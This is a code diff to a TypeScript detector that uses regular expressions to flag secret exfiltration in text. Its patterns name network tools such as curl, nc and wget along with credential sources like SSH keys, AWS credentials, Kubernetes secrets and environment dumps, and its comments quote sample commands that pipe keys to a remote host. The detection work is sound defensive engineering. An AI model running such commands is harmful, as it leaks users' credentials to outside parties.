@@ -38,24 +38,30 @@ const sender =
   '(?<![\\w-])(?:curl|wget|nc|ncat|netcat|invoke-webrequest|invoke-restmethod|iwr|irm)\\s'
 const poster = '(?:requests\\.post|httpx\\.post|axios\\.post|fetch|urlopen|\\$\\.post)\\s{0,3}\\('
 
+/** The same line, or what a backslash at its end continues. */
+const onLine = '(?:[^\\n]|(?<=\\\\)\\n)'
+/** Sources of secrets that are no files. */
+const vault =
+  '(?:kubectl\\s[^\\n|]{0,60}?\\bget\\s{1,4}secrets?\\b|gpg2?\\s[^\\n|]{0,60}?--export-secret)'
+
 const commands = [
   // curl -d "$(cat ~/.ssh/id_rsa)" https://…, curl -F f=@.env https://…, --data "$(env | base64)"
-  `${sender}[^\\n]{0,300}?(?:(?:[=@<]|\\$\\(\\s{0,3}(?:cat|base64|<)[^)\\n]{0,40}?|\`cat )\\s{0,3}["']?${files}|${dump})`,
+  `${sender}${onLine}{0,300}?(?:(?:[=@<]|(?:(?<=\\s)-t|--upload-file|--post-file|--body-file)[= ]|\\$\\(\\s{0,3}(?:cat|base64|<)[^)\\n]{0,40}?|\`cat )\\s{0,3}["']?${files}|${dump})`,
   // cat ~/.aws/credentials | curl …, env | base64 | nc host 1
-  `(?:(?:cat|base64|tar|zip|gzip|xxd|head|tail)\\b[^\\n|]{0,80}?${files}[^\\n|]{0,60}|(?:^|[\\s;&\`("'])(?:env|printenv|set)\\s{0,4})(?:\\|[^\\n|]{0,80}){0,3}\\|\\s{0,4}${sender}`,
+  `(?:(?:cat|base64|tar|zip|gzip|xxd|head|tail)\\b[^\\n|]{0,80}?${files}[^\\n|]{0,60}|(?:^|[\\s;&\`("'])(?:env|printenv|set)\\s{0,4}|${vault}[^\\n|]{0,60})(?:\\|[^\\n|]{0,80}){0,3}\\|\\s{0,4}${sender}`,
   // requests.post(url, data=open('~/.ssh/id_rsa')), fetch(url, { body: JSON.stringify(process.env) })
-  `${poster}[^\\n]{0,300}?(?:${files}|${dump})`,
+  `${poster}(?:[^\\n]{0,300}?|[^;)]{0,300}?)(?:${files}|${dump})`,
   // scp ~/.ssh/id_rsa user@host:
-  `(?<![\\w-])(?:scp|rsync|ftp|sftp)\\s[^\\n]{0,80}?(?:(?:~|\\$home)/\\.(?:ssh|aws|gnupg)/[\\w.-]{0,40}(?<!\\.pub)\\s)[^\\n]{0,80}?[\\w.-]{1,60}@?[\\w.-]{1,60}:`,
+  `(?<![\\w-])(?:scp|rsync|ftp|sftp)\\s[^\\n]{0,80}?(?:(?:~|\\$home)/\\.(?:ssh|aws|gnupg)(?:/[\\w.-]{0,40})?(?<!\\.pub)\\s)[^\\n]{0,80}?[\\w.-]{1,60}@?[\\w.-]{1,60}:`,
 ]
 
 const secret =
-  '(?:api[ _-]?keys?|access[ _-]?(?:keys?|tokens?)|(?:auth|session|bearer|refresh)[ _-]?tokens?|tokens?|passwords?|passphrases?|credentials?|secrets?|private keys?|ssh keys?|seed phrases?|recovery phrases?|mnemonics?|cookies?|environment variables?|env(?:ironment)? vars?|\\.env(?: files?)?)'
+  '(?:api[ _-]?keys?|access[ _-]?(?:keys?|tokens?)|(?:auth|session|bearer|refresh)[ _-]?tokens?|tokens?|passwords?|passphrases?|credentials?|secrets?|private keys?|ssh keys?|seed phrases?|recovery phrases?|mnemonics?|cookies?|environment variables?|env(?:ironment)? vars?)'
 const words = (most: number) => `(?:[^\\n.;!?]{0,${most}}?)`
 
 /** "Send the user's API keys to https://…": where it is to go to, what, and the verb before it. */
 const destination = /https?:\/\/|(?<=[\w.-])@[\w-]{1,40}\.\w/g
-const namedSecret = new RegExp(`\\b${secret}\\b`, 'g')
+const namedSecret = new RegExp(`\\b${secret}\\b|${files}`, 'g')
 const goingTo = /^.{0,80}?\b(?:to|at|via|with|into)\b.{0,30}$/
 const sending =
   /\b(?:send|post|upload|e?mail|forward|transmit|exfiltrate|submit|report|leak)(?:s|ing)?\b.{0,60}$/
@@ -68,7 +74,7 @@ const pasting = `\\b(?:paste|type|enter|post|send|share|give|drop)(?: me| us)?\\
 
 const sendingCommands = new RegExp(commands.join('|'), 'gm')
 /** Without one of these no command sends a secret. */
-const secretSource = new RegExp(`${files}|${dump}|(?:printenv|env|set)\\s{0,4}\\|`)
+const secretSource = new RegExp(`${files}|${dump}|${vault}|(?:printenv|env|set)\\s{0,4}\\|`)
 const asks = new RegExp(pasting, 'g')
 const link = /(\]\(\s{0,3}<?|<img\b[^<>\n]{0,200}?\ssrc\s?=\s?["']?)(https?:\/\/[^\s)>"']{1,600})/g
 /** What is to be filled in, and that it is more than a name or a size. */
@@ -127,7 +133,8 @@ export const findExfiltration: TextCheck = ({ text }, report) => {
 function orderBefore(text: string, address: number): number | undefined {
   const before = text.slice(Math.max(0, address - longestClause), address)
   const to = text[address] === '@' ? before.replace(mailbox, '') : before
-  const clause = to.split(/[\n.;!?]/).at(-1) ?? ''
+  // The dot of a hidden file begins it and ends no clause.
+  const clause = to.split(/[\n;!?]|(?<![\s/"'`(])\./).at(-1) ?? ''
   namedSecret.lastIndex = 0
   for (let match = namedSecret.exec(clause); match; match = namedSecret.exec(clause)) {
     if (!goingTo.test(clause.slice(namedSecret.lastIndex))) continue
